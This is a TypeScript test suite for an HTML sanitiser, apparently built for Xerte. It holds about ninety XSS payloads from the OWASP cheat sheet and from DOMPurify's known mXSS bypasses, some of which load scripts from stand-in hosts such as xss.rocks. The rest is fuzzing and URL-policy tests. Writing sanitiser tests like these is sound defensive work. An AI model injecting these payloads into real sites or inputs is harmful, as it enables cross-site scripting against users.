import fc from 'fast-check';
import { docToHtml, htmlToDoc, isSafeImageUrl, isSafeLinkUrl, safeOriginalHtml, sanitizeBoth, sanitizeHtml } from './index';
import { htmlish } from './testing/htmlish';
import { scriptCapableConstructs } from './testing/xss-check';
import { ImageUrlChecks } from './urls';

/**
 * Vectors from the OWASP XSS filter-evasion cheat sheet, DOMPurify's fixtures and its known
 * mXSS bypasses, plus Xerte's own habits. Every one of them is script-capable as written (the
 * judge must see that), and neither sanitiser may let any of it through.
 */
const VECTORS: [name: string, html: string][] = [
  ['script tag', '<script>alert(1)</script>'],
  ['script with src', '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>'],
  ['script with odd attribute', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['script in angle brackets', '<<SCRIPT>alert("XSS");//<</SCRIPT>'],
  ['split script', '<scr<script>ipt>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img slashes', '<img/src=x/onerror=alert(1)>'],
  ['img quote confusion', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'],
  ['img eval src', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['img javascript src', '<IMG SRC="javascript:alert(\'XSS\');">'],
  ['img unquoted javascript', "<IMG SRC=javascript:alert('XSS')>"],
  ['img mixed case', "<IMG SRC=JaVaScRiPt:alert('XSS')>"],
  ['decimal entities', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'],
  ['padded decimal entities', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
  ['hex entities', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
  ['tab in scheme', '<IMG SRC="jav\tascript:alert(\'XSS\');">'],
  ['encoded tab', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'],
  ['encoded newline', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'],
  ['encoded carriage return', '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">'],
  ['leading control characters', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">'],
  ['link mixed case', '<a href="jAvAsCrIpT:alert(1)">x</a>'],
  ['link entity-encoded j', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['link hex entities', '<a href="&#x6a;&#x61;vascript:alert(1)">x</a>'],
  ['link entity mid-word', '<a href="javas&#99;ript:alert(1)">x</a>'],
  ['link tab', '<a href="java\tscript:alert(1)">x</a>'],
  ['link named newline', '<a href="java&NewLine;script:alert(1)">x</a>'],
  ['link named colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['link leading spaces', '<a href="   javascript:alert(1)">x</a>'],
  ['link leading control', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['link leading no-break space', '<a href="&nbsp;javascript:alert(1)">x</a>'],
  ['link vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['link data html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['link data html plain', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['duplicate href', '<a href="javascript:alert(1)" href="https://ok.nl">x</a>'],
  ['unterminated link', '<a href="javascript:alert(1)">x'],
  ['xerte navigation onclick', '<a href="#" onclick="x_navigateToPage(false,{type:\'linkID\',ID:\'PG1\'})">x</a>'],
  ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe foreign host', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe lookalike host', '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>'],
  ['iframe userinfo', '<iframe src="https://www.youtube.com@evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/x"></iframe>'],
  ['protocol-relative player', '<iframe src="//player.vimeo.com/video/1" onload="alert(1)"></iframe>'],
  ['http player', '<iframe src="http://www.youtube.com/embed/x"></iframe>'],
  ['allowed iframe with handler', '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg xlink', '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>'],
  ['svg animate', '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>'],
  ['math xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['math mglyph style mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['DOMPurify 2.0.0 bypass', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['DOMPurify 2.0.17 bypass', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['textarea in svg mXSS', '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'],
  ['style import', "<style>@import 'http://xss.rocks/xss.css';</style>"],
  ['style element hiding a tag', '<style><img src=x onerror=alert(1)></style>'],
  ['css url javascript', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['css expression', '<div style="width: expression(alert(1))">x</div>'],
  ['css expression with comment', '<div style="x:expr/**/ession(alert(1))">x</div>'],
  ['css escaped url', '<div style="background:u\\72l(javascript:alert(1))">x</div>'],
  ['css behavior', '<div style="behavior: url(xss.htc)">x</div>'],
  ['css moz-binding', '<div style="-moz-binding:url(http://xss.rocks/xssmoz.xml#xss)">x</div>'],
  ['comment breakout', '<!--><script>alert(1)</script>-->'],
  ['conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['cdata', '<![CDATA[><script>alert(1)</script>]]>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['plaintext', '<plaintext><img src=x onerror=alert(1)>'],
  ['title breakout', '<title><img title="</title><img src onerror=alert(1)>"></title>'],
  ['textarea breakout', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['embed svg', '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['base href', '<base href="javascript:alert(1)//">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['link stylesheet', '<link rel="stylesheet" href="javascript:alert(1)">'],
  ['form action', '<form action="javascript:alert(1)"><input type="submit"></form>'],
  ['input autofocus', '<input onfocus=alert(1) autofocus>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['isindex', '<isindex action=javascript:alert(1) type=submit>'],
  ['body onload', '<body onload=alert(1)>'],
  ['body odd handler name', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['frameset', '<frameset onload=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['div slash handler', "<div/onmouseover='alert(1)'>x</div>"],
  ['table background', '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></tr></TABLE>'],
  ['img svg data', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['srcset', '<img srcset="javascript:alert(1) 1x, x.png 2x">'],
  ['video poster', '<video poster=javascript:alert(1)//></video>'],
  ['xlink on html', '<a xlink:href="javascript:alert(1)">x</a>'],
  ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><script>alert(1)</script>'],
];

/** Harmless in today's browsers as written (naive filters get them wrong), so the judge stays quiet. */
const HARMLESS_AS_WRITTEN = new Set(['split script', 'img slashes', 'conditional comment']);
/** Made safe without removing anything (the player is upgraded to https), so nothing is reported. */
const REPAIRED = new Set(['http player']);

const sanitisers = [
  ['sanitizeHtml', (html: string) => sanitizeHtml(html).html],
  ['safeOriginalHtml', (html: string) => safeOriginalHtml(html).html],
] as const;

describe('XSS vectors', () => {
  it.each(VECTORS.filter(([name]) => !HARMLESS_AS_WRITTEN.has(name)))('the judge sees the danger in: %s', (_name, html) => {
    expect(scriptCapableConstructs(html)).not.toEqual([]);
  });

  describe.each(sanitisers)('%s', (_name, sanitise) => {
    it.each(VECTORS)('%s', (_vector, html) => {
      const out = sanitise(html);
      expect(scriptCapableConstructs(out)).toEqual([]);
      expect(sanitise(out)).toBe(out);
    });
  });

  it('reports what it removed for each vector', () => {
    for (const [name, html] of VECTORS.filter(([vector]) => !HARMLESS_AS_WRITTEN.has(vector) && !REPAIRED.has(vector))) {
      const { report } = sanitizeHtml(html);
      if (report.removed.length === 0) throw new Error(`nothing reported for ${name}`);
      if (safeOriginalHtml(html).report.removed.length === 0) throw new Error(`nothing reported by safeOriginalHtml for ${name}`);
    }
  });
});

describe('fuzzing with random HTML-ish input', () => {
  it.each(sanitisers)('%s never throws, never lets script through and is idempotent', (_name, sanitise) => {
    fc.assert(
      fc.property(htmlish, (html) => {
        const out = sanitise(html);
        expect(scriptCapableConstructs(out)).toEqual([]);
        expect(sanitise(out)).toBe(out);
      }),
      { numRuns: 1500 },
    );
  });

  it('sanitizeHtml output is a fixed point of the document conversion', () => {
    fc.assert(
      fc.property(htmlish, (html) => {
        const out = sanitizeHtml(html).html;
        expect(docToHtml(htmlToDoc(out).doc)).toBe(out);
        expect(htmlToDoc(out).report.removed).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });
});

describe('large and hostile input finishes in bounded time', () => {
  const oneMegabyte = (unit: string) => unit.repeat(Math.ceil(1_000_000 / unit.length));
  const inputs: [string, string][] = [
    ['mixed vectors and content', oneMegabyte(VECTORS.map(([, html]) => `<p>text <b>bold</b></p>${html}`).join(''))],
    ['deep nesting', oneMegabyte('<div><b>')],
    ['unclosed tags', oneMegabyte('<p><span style="color:red">x')],
    ['many attributes', `<p ${oneMegabyte('a=1 ')}>x</p>`],
    ['long style', `<p style="${oneMegabyte('color:red;/*')}">x</p>`],
    ['long text', oneMegabyte('word &amp; ')],
    ['many spaces between marks', oneMegabyte('<b> </b><i> </i>')],
    ['unterminated comment', `<!--${oneMegabyte('x')}`],
    ['long data URL', `<p><img src="data:image/png;base64,${oneMegabyte('iVBORw0KGgo')}"></p>`],
    ['long data URL with a bad end', `<img src="data:image/png;base64,${oneMegabyte('iVBORw0KGgo')}&quot;">`],
    ['long data URL in a link, a srcset and a background', `<a href="data:image/png;base64,${oneMegabyte('A')}">x</a><img srcset="data:image/png;base64,${oneMegabyte('A')} 2x"><td background="data:image/gif;base64,${oneMegabyte('R0lG')}">`],
    ['long scheme-like URL', `<a href="${oneMegabyte('javascript')}">x</a>`],
  ];

  it.each(inputs)('%s', (_name, html) => {
    for (const [, sanitise] of sanitisers) {
      const started = performance.now();
      const out = sanitise(html);
      expect(performance.now() - started).toBeLessThan(10_000);
      expect(scriptCapableConstructs(out)).toEqual([]);
    }
  });
});

/**
 * The URL policy as it was written with regular expressions over the whole value (whitespace
 * and controls removed first, then an anchored match), kept here as the oracle for the scans.
 */
const oracle = (() => {
  // eslint-disable-next-line no-control-regex
  const compact = (url: string) => url.replace(/[\u0000-\u0020\u007f-\u00a0\u00ad\u200b-\u200f\u2028\u2029\ufeff]+/g, '');
  const scheme = (url: string) => /^([a-z][a-z0-9+.-]*):/i.exec(compact(url))?.[1].toLowerCase() ?? null;
  return {
    link: (url: string) => [null, 'http', 'https', 'mailto', 'tel'].includes(scheme(url)),
    image: (url: string) => {
      const s = scheme(url);
      if (s === null || s === 'http' || s === 'https') return true;
      return s === 'data' && /^data:image\/(?:png|jpeg|jpg|gif|webp);base64,[a-z0-9+/=]*$/i.test(compact(url));
    },
  };
})();

const URL_PARTS = [
  'data', 'DATA', 'Data', ':', 'image', 'IMAGE', '/', 'png', 'PNG', 'jpeg', 'jpg', 'gif', 'webp', 'svg+xml', 'pngx', 'bmp',
  ';', 'base64', 'BASE64', ',', ';charset=utf-8', 'iVBORw0KGgo', 'AAAA', '+', '=', 'R0lGOD', 'java', 'script', 'vbscript',
  'http', 'https', 's', '//', 'mailto', 'tel', 'x', '#', '%', '"', '<', '&', '-', '.', '1', 'é', '\u212a', '\u0130',
  ' ', '\t', '\n', '\r', '\u0000', '\u0001', '\u007f', '\u0085', '\u00a0', '\u00ad', '\u200b', '\u200f', '\u2028',
  '\ufeff', '\u3000', '\u2003',
];
const urlish = fc.oneof(
  { weight: 4, arbitrary: fc.array(fc.constantFrom(...URL_PARTS), { maxLength: 16 }).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom(...URL_PARTS), fc.constantFrom('data:image/png;base64,', 'data:image/jpeg;base64,', ' DATA :image/gif;base64 ,'), fc.array(fc.constantFrom(...URL_PARTS), { maxLength: 6 }))
      .map(([before, prefix, after]) => before + prefix + after.join('')),
  },
);

describe('URL checks', () => {
  it('decide as the regular expressions did, without running any over the value', () => {
    fc.assert(
      fc.property(urlish, (url) => {
        expect([url, isSafeImageUrl(url)]).toEqual([url, oracle.image(url)]);
        expect([url, isSafeLinkUrl(url)]).toEqual([url, oracle.link(url)]);
        expect([url, new ImageUrlChecks().isSafe(url.padEnd(2000, 'A'))]).toEqual([url, oracle.image(url.padEnd(2000, 'A'))]);
      }),
      { numRuns: 3000 },
    );
  });

  it.each([
    ['data:image/png;base64,iVBORw0KGgo=', true],
    ['  DATA:Image/JPEG;Base64,/9j/4AAQ\n SkZJRg==', true],
    ['data:image/webp;base64,', true],
    ['da\tta:image/gif;base64,R0lGOD', true],
    ['data:image/svg+xml;base64,PHN2Zz4=', false],
    ['data:image/png,iVBORw0KGgo=', false],
    ['data:image/png;charset=utf-8;base64,iVBORw0KGgo=', false],
    ['data:image/pngx;base64,AAAA', false],
    ['data:image/png;base64,AAAA"onerror=alert(1)', false],
    ['data:text/html;base64,PHNjcmlwdD4=', false],
    ['\u00a0javascript:alert(1)', false],
  ])('isSafeImageUrl(%j) is %s', (url, safe) => {
    expect(isSafeImageUrl(url)).toBe(safe);
  });

  it('check a long data URL by its prefix and one scan of its characters, with no regular expression', () => {
    const payload = 'iVBORw0KGgoAAAANSUhEUg'.repeat(20_000); // 440 KB
    const urls = [`data:image/png;base64,${payload}`, `data:image/png;base64,${payload}!`, `data:image/svg+xml;base64,${payload}`, `java${payload}:x`];
    const longest: number[] = [];
    const proto = RegExp.prototype as unknown as Record<string | symbol, (this: RegExp, ...args: unknown[]) => unknown>;
    const methods = ['exec', Symbol.replace, Symbol.split, Symbol.match, Symbol.matchAll, Symbol.search] as const;
    const originals = methods.map((m) => proto[m]);
    methods.forEach((m, i) => {
      proto[m] = function (this: RegExp, ...args: unknown[]) {
        longest.push(String(args[0]).length);
        return originals[i].apply(this, args);
      };
    });
    let verdicts: boolean[];
    try {
      verdicts = urls.flatMap((url) => [isSafeImageUrl(url), isSafeLinkUrl(url), new ImageUrlChecks().isSafe(url)]);
    } finally {
      methods.forEach((m, i) => (proto[m] = originals[i]));
    }
    expect(verdicts).toEqual([true, false, true, false, false, false, false, false, false, false, false, false]);
    expect(longest.filter((n) => n > 1000)).toEqual([]);
  });

  it('sanitizeBoth scans each long data URL once for both passes', () => {
    const url = `data:image/png;base64,${'iVBORw0KGgo'.repeat(10_000)}`;
    const spy = jest.spyOn(ImageUrlChecks.prototype, 'isSafe');
    try {
      const both = sanitizeBoth(`<p><img src="${url}" alt=""></p>`);
      expect(both.html).toBe(`<p><img src="${url}" alt=""></p>`);
      expect(both.original.html).toBe(`<p><img src="${url}" alt=""></p>`);
      // Asked by both passes, answered by one instance, which scans a URL once.
      expect(spy).toHaveBeenCalledTimes(2);
      expect(new Set(spy.mock.contexts).size).toBe(1);
    } finally {
      spy.mockRestore();
    }
    const scan = jest.fn(isSafeImageUrl);
    const checks = new ImageUrlChecks(scan);
    expect([checks.isSafe(url), checks.isSafe(url), checks.isSafe(`${url}!`), checks.isSafe(`${url}!`), checks.isSafe('a.png'), checks.isSafe('a.png')]).toEqual([
      true, true, false, false, true, true,
    ]);
    expect(scan.mock.calls.map(([u]) => u.length)).toEqual([url.length, url.length + 1, 5, 5]);
  });
});
